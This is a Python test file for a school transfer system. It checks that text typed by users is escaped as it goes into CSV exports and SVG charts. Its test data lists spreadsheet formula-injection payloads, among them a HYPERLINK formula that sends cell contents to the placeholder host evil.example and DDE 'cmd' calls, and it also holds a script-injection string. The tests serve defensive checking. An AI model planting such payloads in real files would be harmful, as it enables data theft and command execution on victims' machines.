"""Words of others in the files that people open with a spreadsheet."""

import csv
import io
import zipfile
from datetime import date

import making
import pytest
import steps
from hypothesis import given, settings
from hypothesis import strategies as st

from s2s_tui.base.text import cell_text
from s2s_tui.services import (
    audit_log,
    authorities,
    message_sending,
    pupils,
    school_changes,
    transfers,
    user_audit,
    user_changes,
)
from s2s_tui.services.reports import pictures, running
from s2s_tui.services.reports.asking import Wanted
from s2s_tui.services.reports.model import Picture, Shape
from s2s_tui.services.reports.output import csv_blocks, save_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_taken_for_a_formula(formula: str) -> None:
    assert cell_text(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["", "Llwyd", "O'Brien", "a=b", "1-2", "'quoted", "Siân"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert cell_text(text) == text


@pytest.mark.requirement("R-SYS-7")
def test_a_reason_in_an_exported_timeline_is_no_formula(lite, tmp_path) -> None:
    """Subject access: the authority opens what another organisation's clerk wrote."""
    sender = making.logged_on(lite, "school", "6804012")
    sent = steps.sent(sender, lite, making.offered())
    transfers.reject(making.logged_on(lite, "school", "6814053"), lite, [sent], FORMULAS[0])
    target = tmp_path / "all.zip"
    pupils.export(making.logged_on(lite, "user", "680"), lite, making.upn(1), target)
    with zipfile.ZipFile(target) as bundle:
        rows = list(csv.reader(io.StringIO(bundle.read("timeline.csv").decode())))
    assert rows[-1][-1] == f"'{FORMULAS[0]}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


CELLS = st.text(st.sampled_from([*"=+-@\t\r\n,\"'; 1aé\0\ud800＝＋－＠"]), max_size=6)


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=4))
def test_a_table_that_is_looked_at_as_a_whole_keeps_each_cell_from_being_a_formula(rows) -> None:
    """Blocks of reports are only searched where they look as if there were one: never too seldom."""
    found = list(csv.reader(io.StringIO("".join(csv_blocks(["a", "b"], rows)), newline="")))
    assert found == [["a", "b"], *([cell_text(one) for one in row] for row in rows)]


def _read(path) -> list[str]:
    text = path.read_text("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.requirement("R-REP-1", "R-USR-6", "R-SYS-3")
@pytest.mark.parametrize("formula", [FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3], FORMULAS[7]])
def test_no_word_that_somebody_typed_is_a_formula_in_a_table_that_others_save(
    lite, tmp_path, formula
) -> None:
    """Names of schools, authorities, contacts; a user audit's name; a leaver of a list."""
    dba, wg = making.logged_on(lite, "dba", "680"), making.logged_on(lite, "wg", "WG")
    school_changes.update(dba, lite, "6804012", {"name": formula, "name_cy": formula, "town": formula})
    authorities.update(dba, lite, "680", {"name": formula})
    user_changes.update(dba, lite, "680user", contact=formula)
    user_audit.open_round(wg, lite, formula[:60], date(2027, 1, 31))
    steps.sent(making.logged_on(lite, "school", "6804012"), lite, making.offered())
    message_sending.send(making.logged_on(lite, "user", "680"), lite, ["6804012"], formula, formula)
    saved = [
        user_audit.certificate(dba, lite, tmp_path, "certificate.csv"),
        audit_log.entries(dba, lite).save(tmp_path / "log.csv"),
    ]
    leaver = f'{making.upn(5)},6804012,1.11.2026,"{formula.replace(chr(34), chr(34) * 2)}",x,19.8.2016\n'
    leavers = ("upn,school,leaving date,surname,forename,dob\n", leaver)
    wanted = {"lost-details": Wanted(leavers=leavers), "cluster": Wanted(authorities=("680", "681"))}
    for key in ("usage", "school", "cluster", "lost-numbers", "lost-details", "movement", "messages"):
        saved.append(tmp_path / f"{key}.csv")
        save_csv(running.ask(dba, lite, key, wanted.get(key, Wanted())), saved[-1])
    for path in saved:
        assert [cell for cell in _read(path) if cell.startswith(("=", "+", "-", "@", "＝"))] == [], path.name
    names = [path.name for path in saved if f"'{formula}" in _read(path)]
    assert {"usage.csv", "school.csv", "cluster.csv", "lost-details.csv", "certificate.csv"} <= set(names)


@pytest.mark.parametrize("shape", list(Shape))
def test_no_word_of_a_picture_is_markup_in_it(shape) -> None:
    evil = "<script>alert(1)</script>]]>&\" onload='x'"
    picture = Picture(shape, evil, (evil, "b"), ((evil, (1, 2)), ("b", (3, 4))), evil, evil)
    drawn = pictures.svg(picture)
    from lxml import etree

    tree = etree.fromstring(drawn.encode("utf-8"))
    names = {etree.QName(one).localname for one in tree.iter() if isinstance(one.tag, str)}
    assert "script" not in names
    assert not [name for one in tree.iter() for name in one.attrib if name.lower().startswith("on")]
